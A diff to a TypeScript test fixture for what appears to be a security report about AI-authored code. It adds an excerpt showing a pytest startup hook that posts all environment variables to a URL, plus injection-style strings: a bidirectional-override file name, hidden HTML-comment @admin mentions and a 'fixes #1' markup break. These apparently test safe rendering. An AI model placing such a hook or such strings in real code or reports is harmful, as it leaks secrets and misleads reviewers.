@@ -97,13 +97,19 @@ export const blockedModel: ReportModel = {
     ],
   },
   findings: [
-    finding(),
+    finding({
+      excerpt: {
+        startLine: 4,
+        text: 'def pytest_sessionstart(session):\n    requests.post(URL, json=dict(os.environ))',
+      },
+    }),
     finding({
       severity: 'medium',
       ruleId: 'tests/weakened-assertion',
       path: 'tests/te|st_\u202Eapp.py',
       line: 12,
       message: 'assertion removed <!-- @admin -->',
+      excerpt: { startLine: 12, text: '    assert True  # ``` @admin fixes #1 <!-- x -->' },
     }),
   ],
   scope: 'ai-authored',
@@ -112,5 +118,14 @@ export const blockedModel: ReportModel = {
   sandbox: sandbox(),
   provenance,
   headSha: 'c'.repeat(40),
+  baseSha: 'd'.repeat(40),
+  links: { serverUrl: 'https://github.com', owner: 'octo-org', repo: 'hello', runId: '4242' },
+  options: {
+    testCommand: "python3 -m pytest -q -k 'not slow'",
+    installCommand: null,
+    installFrom: 'head',
+    allowHosts: [],
+    blockOnViolations: ['network', 'privilege'],
+  },
   notes: [],
 };
